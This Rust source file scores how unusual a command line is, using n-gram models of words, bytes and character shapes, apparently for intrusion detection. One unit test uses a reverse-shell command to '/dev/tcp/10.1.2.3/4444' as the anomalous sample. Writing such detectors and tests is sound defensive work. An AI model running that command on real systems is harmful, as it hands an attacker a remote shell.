//! What is known of the words, bytes and shapes of command lines, and how unexpected
//! those of another line are.

use std::collections::HashMap;

use anyhow::{Context, Result};
use sentinel_model::{Ngram, NgramParams};

use super::sequences::context;

/// Words that are looked at together, and bytes.
const WORD_ORDER: usize = 3;
const BYTE_ORDER: usize = 5;
/// Of shapes more, as there are few of them.
const SHAPE_ORDER: usize = 6;
/// Shapes beside the symbols, which stand for themselves.
const WORD: u32 = 128;
const NUMBER: u32 = 129;
const BLANK: u32 = 130;
const SHAPES: u32 = 131;

/// How many surprises are told of a line.
pub(super) const SURPRISES: usize = 13;

/// What is known from some lines.
pub(super) struct Words {
    numbers: HashMap<String, u32>,
    words: Ngram,
    bytes: Ngram,
    shapes: Ngram,
}

/// A line as each of the models sees it.
struct Tokens {
    words: Vec<u32>,
    bytes: Vec<u32>,
    shapes: Vec<u32>,
}

impl Words {
    pub(super) fn learn<'a>(lines: impl Iterator<Item = &'a str>) -> Result<Words> {
        let lines: Vec<&str> = lines.collect();
        let mut numbers: HashMap<String, u32> = HashMap::new();
        for line in &lines {
            for word in split(line) {
                let next = numbers.len() as u32;
                numbers.entry(word).or_insert(next);
            }
        }
        let size: usize = lines.iter().map(|line| line.len()).sum();
        let model = |order: usize, vocabulary: u32| {
            let pairs_max = (size * order).next_power_of_two().clamp(1 << 12, 1 << 23);
            let params = NgramParams {
                order,
                vocabulary,
                pairs_max,
                seed: 0,
            };
            Ngram::new(params).context("cannot learn words")
        };
        let mut known = Words {
            words: model(WORD_ORDER, numbers.len() as u32 + 1)?,
            bytes: model(BYTE_ORDER, 256)?,
            shapes: model(SHAPE_ORDER, SHAPES)?,
            numbers,
        };
        for line in lines {
            let tokens = known.tokens(line);
            observe(&mut known.words, &tokens.words);
            observe(&mut known.bytes, &tokens.bytes);
            observe(&mut known.shapes, &tokens.shapes);
        }
        Ok(known)
    }

    fn tokens(&self, line: &str) -> Tokens {
        let unseen = self.unseen();
        let number = |word: String| self.numbers.get(&word).copied().unwrap_or(unseen);
        Tokens {
            words: split(line).into_iter().map(number).collect(),
            bytes: line.bytes().map(u32::from).collect(),
            shapes: shapes(line),
        }
    }

    /// The number of all words that are not known.
    fn unseen(&self) -> u32 {
        self.numbers.len() as u32
    }

    pub(super) fn surprises(&self, line: &str) -> [f32; SURPRISES] {
        let tokens = self.tokens(line);
        let unseen = tokens.words.iter().filter(|word| **word == self.unseen());
        let unseen = unseen.count() as f32;
        let words = Bits::of(&self.words, &tokens.words);
        let bytes = Bits::of(&self.bytes, &tokens.bytes);
        let shapes = Bits::of(&self.shapes, &tokens.shapes);
        [
            words.top(1),
            words.top(3),
            words.top(8),
            unseen.ln_1p(),
            bytes.top(4),
            bytes.top(24),
            shapes.top(3),
            shapes.top(8),
            words.sum(),
            bytes.sum(),
            shapes.sum(),
            bytes.densest(12),
            bytes.densest(40),
        ]
    }
}

fn observe(model: &mut Ngram, tokens: &[u32]) {
    let order = model.params().order;
    for at in 0..tokens.len() {
        model.observe(context(tokens, at, order), tokens[at]);
    }
}

/// The surprise of each token of a line, in its order and from the highest down.
struct Bits {
    ordered: Vec<f32>,
    sorted: Vec<f32>,
}

impl Bits {
    fn of(model: &Ngram, tokens: &[u32]) -> Bits {
        let order = model.params().order;
        let bits = |at| model.surprise(context(tokens, at, order), tokens[at]);
        let ordered: Vec<f32> = (0..tokens.len()).map(bits).collect();
        let mut sorted = ordered.clone();
        sorted.sort_unstable_by(|a, b| b.total_cmp(a));
        Bits { ordered, sorted }
    }

    /// The `n` highest over `n`, so that a short line is not all surprise.
    fn top(&self, n: usize) -> f32 {
        self.sorted.iter().take(n).sum::<f32>() / n as f32
    }

    /// The logarithm of all: what is added to a line can only raise it.
    fn sum(&self) -> f32 {
        self.ordered.iter().sum::<f32>().ln_1p()
    }

    /// The highest mean of `n` neighbours.
    fn densest(&self, n: usize) -> f32 {
        let stretches = self.ordered.windows(n.min(self.ordered.len()).max(1));
        let sums = stretches.map(|stretch| stretch.iter().sum::<f32>());
        sums.fold(0.0, f32::max) / n as f32
    }
}

/// Words of letters and digits, numbers being one, and each symbol by itself.
fn split(line: &str) -> Vec<String> {
    let mut words: Vec<String> = Vec::new();
    let mut inside = false;
    for c in line.chars().filter(|c| !c.is_control()) {
        let part = c.is_alphanumeric() || c == '_';
        let c = if c.is_numeric() { '0' } else { c };
        match words.last_mut() {
            Some(word) if part && inside => {
                if !(c == '0' && word.ends_with('0')) {
                    word.push(c);
                }
            }
            _ if c.is_whitespace() => (),
            _ => words.push(c.to_string()),
        }
        inside = part;
    }
    words
}

/// The line with each word, number and stretch of blanks as one token of its kind.
fn shapes(line: &str) -> Vec<u32> {
    let mut shapes: Vec<u32> = Vec::new();
    for c in line.chars() {
        let shape = match c {
            c if c.is_alphabetic() || c == '_' => WORD,
            c if c.is_numeric() => NUMBER,
            c if c.is_whitespace() => BLANK,
            c => u32::from(c).min(127),
        };
        if shape < WORD || shapes.last() != Some(&shape) {
            shapes.push(shape);
        }
    }
    shapes
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_line_has_words_and_a_shape() {
        let letters = |line: &str| -> String {
            let letter = |shape: u32| match shape {
                WORD => 'w',
                NUMBER => '0',
                BLANK => '_',
                symbol => char::from_u32(symbol).expect("a symbol"),
            };
            shapes(line).into_iter().map(letter).collect()
        };
        for (line, words, shape) in [
            ("", &[][..], ""),
            ("ls  -la a12", &["ls", "-", "la", "a0"], "w_-w_w0"),
            ("2>&1", &["0", ">", "&", "0"], "0>&0"),
            (
                "f(10.25);;",
                &["f", "(", "0", ".", "0", ")", ";", ";"],
                "w(0.0);;",
            ),
        ] {
            assert_eq!(split(line), words, "{line}");
            assert_eq!(letters(line), shape, "{line}");
        }
    }

    #[test]
    fn what_is_added_hides_nothing() {
        let usual = (0..50).map(|n| format!("tar czf /backup/app{n}.tgz /srv/app"));
        let usual: Vec<String> = usual.collect();
        let words = Words::learn(usual.iter().map(String::as_str)).expect("learns");
        let odd = "sh -i >& /dev/tcp/10.1.2.3/4444 0>&1";
        let plain = words.surprises(odd);
        let padded = words.surprises(&format!("{odd} /srv/app /srv/app /srv/app /srv/app"));
        for (at, (plain, padded)) in plain.iter().zip(padded).enumerate() {
            assert!(padded >= plain - 1e-4, "{at}: {plain} {padded}");
        }
    }
}
